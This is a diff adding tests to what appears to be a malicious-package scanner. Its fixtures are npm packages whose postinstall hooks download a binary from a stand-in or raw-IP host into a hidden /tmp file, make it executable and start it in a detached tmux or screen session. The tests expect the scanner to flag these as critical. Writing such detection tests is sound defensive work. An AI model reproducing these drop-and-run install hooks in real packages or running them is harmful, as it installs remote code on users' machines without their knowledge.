@@ -164,3 +164,53 @@ describe('a shipped script that overwrites every file of the home folders its ca
     expect(ruleOf(r, 'script.destructive')).toBeUndefined();
   });
 });
+
+describe('a downloaded program started in a detached terminal session', () => {
+  const js = (start: string) => ({
+    'package.json': JSON.stringify({
+      name: 'devtunnel-lite',
+      version: '1.0.0',
+      scripts: { postinstall: 'node setup.js' },
+    }),
+    'setup.js': [
+      "const fs = require('fs');",
+      "const https = require('https');",
+      "const { execFile, exec } = require('child_process');",
+      "const bin = '/tmp/.dtl-agent';",
+      "https.get('https://cdn.dtl-relay.example/agent', (res) => {",
+      '  res.pipe(fs.createWriteStream(bin)).on("finish", () => {',
+      '    fs.chmodSync(bin, 0o755);',
+      `    ${start}`,
+      '  });',
+      '});',
+    ].join('\n'),
+  });
+
+  it("execFile('tmux', ['new-session', '-d', '-s', name, 'bin --flag']) runs the download", () => {
+    const r = analyzeSource(js("execFile('tmux', ['new-session', '-d', '-s', 'dtl', bin + ' --serve']);"));
+    expect(ruleOf(r, 'js.drop-and-run')).toBeDefined();
+    expect(r.risk_level).toBe('critical');
+  });
+
+  it('a shell script that starts it with `tmux new -d` or `screen -dmS` runs it in the background', () => {
+    for (const launch of ["tmux new -d -s dtl '/tmp/.dtl --serve'", 'screen -dmS dtl /tmp/.dtl --serve']) {
+      const r = analyzeSource({
+        'package.json': JSON.stringify({
+          name: 'devtunnel-lite',
+          version: '1.0.0',
+          scripts: { postinstall: 'sh setup.sh' },
+        }),
+        'setup.sh': [
+          '#!/bin/sh',
+          'curl -s -o /tmp/.dtl http://45.9.1.20/agent',
+          'chmod +x /tmp/.dtl',
+          launch,
+        ].join('\n'),
+      });
+      expect([launch, ruleOf(r, 'script.download-execute')?.message]).toEqual([
+        launch,
+        expect.stringContaining('in the background'),
+      ]);
+    }
+  });
+});
